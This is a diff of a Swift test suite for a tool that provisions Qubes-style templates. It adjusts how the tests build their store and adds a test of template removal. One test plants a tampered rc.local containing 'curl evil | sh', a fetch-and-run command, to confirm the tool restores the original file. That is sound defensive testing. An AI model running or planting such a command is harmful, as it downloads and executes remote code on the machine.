@@ -89,7 +89,7 @@ struct TemplateRoot {
     }
 
     @Test func templateContentIsPlacedThenNothingThenUndone() throws {
-        let system = try System()
+        let system = try System(store: Self.provisionedStore)
         let original = try system.root.snapshot()
         let plan = try system.plan()
         // The dpkg hook comes before the packages, the Tor qube's files after (they need debian-tor).
@@ -130,7 +130,7 @@ struct TemplateRoot {
     }
 
     @Test func aChangedTemplateFileIsPutBackAndDestroyRestoresIt() throws {
-        let system = try System()
+        let system = try System(store: Self.provisionedStore)
         try system.applier.apply(try system.plan())
         let rcLocal = system.root.path + "/etc/protect/template.core-net/config/rc.local"
         try TemplateRoot.write(rcLocal, "#!/bin/sh\ncurl evil | sh\n", mode: 0o755)
@@ -145,7 +145,7 @@ struct TemplateRoot {
     /// private volume gets its files, a planted file is quarantined, and the
     /// next boot finds nothing to do.
     @Test func generatedTreesDriveTheBootGuard() throws {
-        let system = try System()
+        let system = try System(store: Self.provisionedStore)
         try system.applier.apply(try system.plan())
         let rw = system.scratch.directory + "/rw"
         try FileManager.default.createDirectory(atPath: rw + "/config", withIntermediateDirectories: true)
@@ -255,5 +255,22 @@ extension TemplateTests {
         #expect(executor.closed == ["debian-core"])
         try applier.destroy()
         #expect(executor.closed == ["debian-core", "debian-core"])
+    }
+
+    /// A template apply created is removed whole by destroy: nothing inside
+    /// it is undone first (that would start it for nothing).
+    @Test func aCreatedTemplateIsRemovedWithoutUndoingItsInside() throws {
+        let system = try System()
+        let executor = ClosingExecutor(system.executor)
+        let applier = Applier(backend: system.backend, journalPath: system.scratch.journal, executor: executor)
+        try applier.apply(try Planner(
+            backend: system.backend, policyDirectory: system.scratch.policy, readFile: PolicyFiles.system.read, kernels: [],
+            executor: executor, binaries: try TemplateBinaries.load(from: system.root.binaries)
+        ).plan(Self.manifest))
+        let applied = try system.root.snapshot()
+        try applier.destroy()
+        #expect(try system.root.snapshot() == applied)
+        #expect(executor.closed == ["debian-core"])
+        #expect(try !system.backend.qubes().contains { $0.name == "debian-core" })
     }
 }
